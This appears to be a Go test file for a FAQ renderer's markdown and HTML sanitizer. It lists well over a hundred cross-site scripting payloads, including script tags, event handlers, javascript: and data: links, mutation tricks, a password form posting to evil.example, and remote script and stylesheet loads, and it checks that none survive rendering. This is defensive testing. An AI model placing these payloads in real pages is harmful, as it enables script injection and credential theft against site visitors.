package markdown_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/frontdesk-go/frontdesk/faq"
	"github.com/frontdesk-go/frontdesk/faq/markdown"
	"golang.org/x/net/html"
)

// hostile are bodies of the kinds that published lists of cross-site scripting hold: each
// tries to run a script, to load something, or to change the page around it.
var hostile = []string{
	// Scripts, in every spelling.
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<script/src=//evil.example/x.js>`, "<script\x0c>alert(1)</script>",
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script>alert(1)//<</script>`, `<<script>alert(1);//<</script>`, `<script x=">" src="//evil.example/x.js"></script>`,
	`<script><!--<script>alert(1)</script>-->`, `</script><script>alert(1)</script>`, "<scri\x00pt>alert(1)</scri\x00pt>", `<%00script>alert(1)</script>`,
	"\xef\xbb\xbf<script>alert(1)</script>", `＜script＞alert(1)＜/script＞`, `<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
	// Handlers.
	`<img src=x onerror=alert(1)>`, `<img src=x:x onerror="alert(1)">`, `<img/src="x"/onerror=alert(1)>`, `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
	`<img src="https://x.example/a.png" onload=alert(1)>`, `<b onmouseover=alert(1)>x</b>`, `<p onclick='alert(1)'>x`, `<a onclick=alert(1) href=https://x.example>x</a>`,
	`<details open ontoggle=alert(1)>x</details>`, `<body onload=alert(1)>`, `<div onpointerover="alert(1)">x</div>`, `<h1 onfocus=alert(1) tabindex=1 autofocus>x</h1>`,
	"<img src=x o\x00nerror=alert(1)>", "<img src=x\x0bonerror=alert(1)>", `<table background="javascript:alert(1)" onclick=x><tr><td onclick=alert(1)>x</table>`,
	`<img src=x onerror=&#97;lert(1)>`, `<img src="x" alt="` + "``onerror=alert(1)" + `">`, `<ol start="1" oncopy=alert(1)><li>x</ol>`,
	// Addresses that run something.
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`, `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`, `<a href="java&Tab;script:alert(1)">x</a>`, `<a href="java&NewLine;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>", "<a href=\"\u00a0javascript:alert(1)\">x</a>", `<a href="vbscript:msgbox(1)">x</a>`, `<a href="livescript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="blob:https://x.example/1">x</a>`,
	`<a href="file:///etc/passwd">x</a>`, `<a href="about:blank">x</a>`, `<a href="view-source:https://x.example">x</a>`, `<a href="intent://x#Intent;end">x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="/\evil.example">x</a>`, `<a href="\\evil.example\x">x</a>`, `<a href="/logout">x</a>`, `<a href="../admin">x</a>`, `<a href="?x=1">x</a>`,
	`<a href="https:javascript:alert(1)">x</a>`, `<a href="https:evil.example">x</a>`, `<a href="https:///evil.example">x</a>`, `<a href="http://">x</a>`,
	`<a href="javascript:alert(1)//https://x.example">x</a>`, `<a href="javascript://%0aalert(1)">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`,
	`<a xlink:href="javascript:alert(1)">x</a>`, `<a href=https://x.example target=_self ping=https://evil.example download>x</a>`,
	// Pictures that are none, or tell who reads.
	`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src="http://x.example/pixel.gif">`, `<img src="//x.example/pixel.gif">`,
	`<img src="/logout">`, `<img src="/files/../logout">`, `<img src="/files//evil.example">`, `<img srcset="https://evil.example/a.png 1x" src=x>`, `<img lowsrc="javascript:alert(1)">`, `<img dynsrc="javascript:alert(1)">`,
	`<img src="https://x.example/a.png" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>`, `<picture><source srcset="javascript:alert(1)"><img src=x></picture>`,
	`<input type=image src="javascript:alert(1)">`, `<image src=x onerror=alert(1)>`, `<video poster="javascript:alert(1)" src=x onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	// Other worlds inside of HTML.
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>`,
	`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`, `<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math href="javascript:alert(1)">x</math>`, `<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	// What a second reading would make something else of.
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg><desc><table><svg><desc></svg></desc></table></desc><style></svg><img src=x onerror=alert(1)>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<title><img title="</title><img src=x onerror=alert(1)>"></title>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<noembed><img title="</noembed><img src=x onerror=alert(1)>">`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<p title="` + "`" + `"><img src=x onerror=alert(1)>`, `<template><script>alert(1)</script></template>`, `<plaintext><script>alert(1)</script>`,
	`<select><iframe></select><img src=x: onerror=alert(1)>`, `<table><caption><svg><script>alert(1)</script></svg></caption></table>`, `<pre>` + "\n\n" + `<!-- --><script>alert(1)</script></pre>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)`, `<a href="#x&quot; onmouseover=&quot;alert(1)">x</a>`, `<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src=https://x.example/a>`,
	// Styles.
	`<style>@import "https://evil.example/x.css";</style>`, `<p style="background:url(javascript:alert(1))">x</p>`, `<div style="position:fixed;inset:0">x</div>`, `<p style="width:expression(alert(1))">x</p>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`, `<b class="admin-only fixed" id="login" name="login">x</b>`, `<font style='x:expression(1)'>x</font>`, `<xss style="behavior:url(x.htc)">`,
	// Frames, forms and the page itself.
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frameset><frame src="javascript:alert(1)"></frameset>`, `<object data="javascript:alert(1)"></object>`,
	`<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>`, `<embed src="javascript:alert(1)">`, `<applet code=x></applet>`, `<portal src="https://evil.example">`,
	`<form action="https://evil.example"><input name=password><button>Sign in</button></form>`, `<button formaction="javascript:alert(1)">x</button>`, `<isindex action="javascript:alert(1)" type=image>`, `<keygen autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)><option>x</select>`, `<input autofocus onfocus=alert(1)>`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<meta charset="utf-7">+ADw-script+AD4-`,
	`</div></div></body></html><h1>Session expired</h1>`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!DOCTYPE x [<!ENTITY x "<script>">]>&x;`, `<?xml version="1.0"?><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<dialog open>x</dialog>`, `<slot name=x></slot>`, `<a is="evil-element">x</a>`, `<h1 id="__proto__">x</h1><h2 id="cookie" name="cookie">x</h2>`, `<img name="body" src="https://x.example/a">`,
	`<bgsound src="javascript:alert(1)">`, `<layer src="https://evil.example"></layer>`, `<comment><img src="</comment><img src=x onerror=alert(1))//">`, `<blink>x</blink>`, `<q cite="javascript:alert(1)">x</q>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`,
	// Markdown's own tricks.
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, "[x](java\tscript:alert(1))", `[x](javascript&#58;alert(1))`, `[x](&#x6A;avascript:alert(1))`, `[x](javascript&colon;alert(1))`, `[x]( javascript:alert(1))`, `[x](<javascript:alert(1)>)`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`, `![x](javascript:alert(1))`, `![x](data:image/svg+xml;base64,PHN2Zz4=)`, `![x" onerror="alert(1)](x)`, `![x](https://x.example/a.png "x\" onerror=\"alert(1)")`, `[x](https://x.example "x' onmouseover='alert(1)")`,
	"[x][1]\n\n[1]: javascript:alert(1)", "[x][1]\n\n[1]: data:text/html,x 'y'", `<javascript:alert(1)>`, `<https://x.example/" onmouseover="alert(1)>`, `https://x.example/"onmouseover="alert(1)`, `www.x.example/<script>alert(1)</script>`,
	"```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "`<script>alert(1)</script>`", "~~~ x\" onclick=\"alert(1)\ny\n~~~", "    <script>alert(1)</script>", "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
	"# <script>alert(1)</script>", "# x {onclick=alert(1)}", "[a](#x\" onclick=\"alert(1))", "[<img src=x onerror=alert(1)>](https://x.example)", "![<script>](https://x.example/a)", "<div>\n\n[x](javascript:alert(1))\n\n</div>", "\\<script>alert(1)\\</script>",
	"[x](\x00javascript:alert(1))", "[x](http://x.example/\u202egpj.exe)", "<!-- --!><img src=x onerror=alert(1)> -->", "[x](https://user:secret@evil.example@x.example/)", "<a\nhref\n=\n'javascript:alert(1)'>x</a>",
}

// mayHave are the elements and attributes that readers may get. It is written down once
// more, so that a slip in the code is seen.
var mayHave = map[string]string{
	"a": "href title target rel", "img": "src alt title width height loading referrerpolicy", "ol": "start", "th": "colspan rowspan align", "td": "colspan rowspan align", "code": "class",
	"h1": "id", "h2": "id", "h3": "id", "h4": "id", "h5": "id", "h6": "id",
	"b": "", "strong": "", "i": "", "em": "", "u": "", "s": "", "del": "", "ins": "", "sub": "", "sup": "", "kbd": "", "small": "", "mark": "", "span": "", "p": "", "pre": "", "blockquote": "",
	"div": "", "ul": "", "li": "", "dl": "", "dt": "", "dd": "", "figure": "", "figcaption": "", "details": "", "summary": "", "table": "", "thead": "", "tbody": "", "tr": "", "br": "", "hr": "",
	// which every document has
	"html": "", "head": "", "body": "",
}

// harm says what is wrong with what readers get, as a browser reads it.
func harm(rendered string) string {
	doc, err := html.Parse(strings.NewReader(rendered))
	if err != nil {
		return err.Error()
	}
	var found []string
	for n := range doc.Descendants() {
		switch n.Type {
		case html.ElementNode:
			allowed, ok := mayHave[n.Data]
			if !ok || n.Namespace != "" {
				found = append(found, "element "+n.Namespace+" "+n.Data)
			}
			for _, a := range n.Attr {
				if !slices.Contains(strings.Fields(allowed+" dir lang"), a.Key) || a.Namespace != "" {
					found = append(found, "attribute "+n.Data+"."+a.Key)
				}
				if bad := badValue(n.Data, a.Key, a.Val); bad != "" {
					found = append(found, bad)
				}
			}
		case html.CommentNode, html.DoctypeNode:
			found = append(found, "a comment")
		}
	}
	return strings.Join(found, ", ")
}

// badValue reads an address as browsers do: without spaces around it, and with no tabs and
// line feeds in it.
func badValue(element, name, value string) string {
	switch name {
	case "id":
		if !strings.HasPrefix(value, "faq-") {
			return "id " + value
		}
	case "class":
		if !strings.HasPrefix(value, "language-") || strings.ContainsAny(value, " \t\n") {
			return "class " + value
		}
	case "href", "src":
		plain := strings.TrimFunc(strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(value), func(r rune) bool { return r <= ' ' })
		u, err := url.Parse(plain)
		switch {
		case err != nil:
			return name + " can't be read: " + value
		case element == "img" && u.Scheme == "" && strings.HasPrefix(plain, "/files/") && !strings.Contains(plain, "..") && !strings.Contains(plain, "//"):
		case element == "img" && u.Scheme == "https" && u.Host != "":
		case element == "a" && slices.Contains([]string{"http", "https"}, u.Scheme) && u.Host != "":
		case element == "a" && slices.Contains([]string{"mailto", "tel"}, u.Scheme):
		case element == "a" && strings.HasPrefix(plain, "#faq-"):
		default:
			return name + " " + value
		}
	}
	return ""
}

var render = markdown.New(&markdown.Options{Files: "/files/"})

func TestHostileBodies(t *testing.T) {
	t.Logf("%d bodies", len(hostile))
	for _, body := range hostile {
		for _, f := range []faq.Format{faq.Markdown, faq.HTML} {
			for _, around := range []string{"%s", "before %s after", "<table><tr><td>%s</table>", "- %s", "<div>%s", "<p title='%s'>x</p>", "# %s"} {
				source := fmt.Sprintf(around, body)
				out := render(f, source)
				if bad := harm(out.HTML); bad != "" {
					t.Errorf("%s %q becomes %q: %s", f, source, out.HTML, bad)
				}
				if again := render(faq.HTML, out.HTML); again.HTML != out.HTML && harm(again.HTML) != "" {
					t.Errorf("%s %q becomes another thing at a second reading: %q", f, source, again.HTML)
				}
				if !balanced(out.HTML) {
					t.Errorf("%s %q opens or closes what it doesn't close or open: %q", f, source, out.HTML)
				}
			}
		}
	}
}

// balanced says whether every element that is opened is closed, in order.
func balanced(rendered string) bool {
	var open []string
	z := html.NewTokenizer(strings.NewReader(rendered))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return len(open) == 0
		case html.StartTagToken:
			name, _ := z.TagName()
			if n := string(name); n != "br" && n != "hr" && n != "img" {
				open = append(open, n)
			}
		case html.EndTagToken:
			name, _ := z.TagName()
			if len(open) == 0 || open[len(open)-1] != string(name) {
				return false
			}
			open = open[:len(open)-1]
		}
	}
}

// The test itself sees harm where there is some.
func TestHarmIsSeen(t *testing.T) {
	for _, bad := range []string{`<script>x</script>`, `<img src=x onerror=y>`, `<a href="java` + "\n" + `script:x">`, `<p style=x>`, `<svg></svg>`, `<a href=//x>`, `<img src=http://x.example/a>`, `<h1 id=x>`, `<code class="a b">`, `<!-- x -->`, `<img src="/files/../x">`} {
		if harm(bad) == "" {
			t.Errorf("no harm in %s", bad)
		}
	}
	if balanced("<p></div>") || balanced("<p>") || balanced("</p>") || !balanced("<p><br></p>") {
		t.Error("balance isn't seen")
	}
}

// What is nested without end, or repeats what is slow to read, takes no longer than a
// reader would wait, and is harmless.
func TestBodiesThatAreHardToRead(t *testing.T) {
	n := faq.MaxBody
	for name, body := range map[string]string{
		"quotes": strings.Repeat(">", n), "lists": strings.Repeat("- ", n/2), "brackets": strings.Repeat("[", n), "pictures": strings.Repeat("![", n/2), "links": strings.Repeat("[x](", n/4),
		"emphasis": strings.Repeat("*a_", n/3), "stars": strings.Repeat("*", n), "a **b": strings.Repeat("a **b", n/5), "code": strings.Repeat("`a``", n/4), "tables": strings.Repeat("|a", n/2) + "\n" + strings.Repeat("|-", n/4),
		"rows": "|a|b|\n|-|-|\n" + strings.Repeat("|1|2|\n", n/6), "references": strings.Repeat("[a]: /b\n", n/8), "entities": strings.Repeat("&#x41;", n/6), "deep div": strings.Repeat("<div>", n/5), "deep b": strings.Repeat("<b>", n/3),
		"a in a": strings.Repeat("<a href=https://x.example>", n/26), "table in table": strings.Repeat("<table><tr><td>", n/15), "open tags": strings.Repeat("<", n), "comments": strings.Repeat("<!--", n/4), "headings": strings.Repeat("# a\n", n/4),
		"quotes in lists": strings.Repeat("> - ", n/4), "lists in quotes": strings.Repeat("1. > ", n/5), "bangs": strings.Repeat("!", n), "autolinks": strings.Repeat("www.a.b ", n/8), "breaks": strings.Repeat("a  \n", n/4),
		"many emphases": strings.Repeat(strings.Repeat("*a_", 1300)+"\n\n", n/3902), "many links": strings.Repeat(strings.Repeat("[x](", 1300)+"\n\n", n/5202), "setext": strings.Repeat("a\n=\n", n/4), "fences": strings.Repeat("```\n", n/4),
		"nested lists": nested(n), "addresses": strings.Repeat("http://a.b ", n/11), "tildes": strings.Repeat("~~a ", n/4), "p in b": strings.Repeat("<b><p>", n/6), "fonts": strings.Repeat("<i><table>", n/10),
	} {
		for _, f := range []faq.Format{faq.Markdown, faq.HTML} {
			start := time.Now()
			out := render(f, body)
			if took := time.Since(start); took > 10*time.Second && slow(f, body, took) {
				t.Errorf("%s as %s took %v", name, f, took)
			} else {
				t.Logf("%s as %s: %v", name, f, took)
			}
			if bad := harm(out.HTML); bad != "" && !strings.Contains(bad, "limit") {
				t.Errorf("%s as %s: %.200s", name, f, bad)
			}
		}
	}
}

// slow says that it is the body that takes so long, and not a busy machine: in each of some
// tries it takes much more than eight times as long as an eighth of it.
func slow(f faq.Format, body string, took time.Duration) bool {
	for range 3 {
		start := time.Now()
		render(f, body[:len(body)/8])
		if took < 24*time.Since(start) {
			return false
		}
		start = time.Now()
		render(f, body)
		took = time.Since(start)
	}
	return true
}

// nested is a list whose items lie deeper and deeper.
func nested(n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n-i; i++ {
		b.WriteString(strings.Repeat(" ", 2*i) + "- a\n")
	}
	return b.String()
}

func FuzzRender(f *testing.F) {
	for _, body := range hostile {
		f.Add(body, true)
		f.Add(body, false)
	}
	f.Fuzz(func(t *testing.T, body string, asHTML bool) {
		format := faq.Markdown
		if asHTML {
			format = faq.HTML
		}
		out := render(format, body)
		if bad := harm(out.HTML); bad != "" {
			t.Errorf("%q becomes %q: %s", body, out.HTML, bad)
		}
		if !balanced(out.HTML) {
			t.Errorf("%q isn't balanced: %q", body, out.HTML)
		}
		for _, h := range out.Headings {
			if !strings.Contains(out.HTML, `id="`+html.EscapeString(h.ID)+`"`) {
				t.Errorf("heading %+v isn't in %q", h, out.HTML)
			}
		}
	})
}
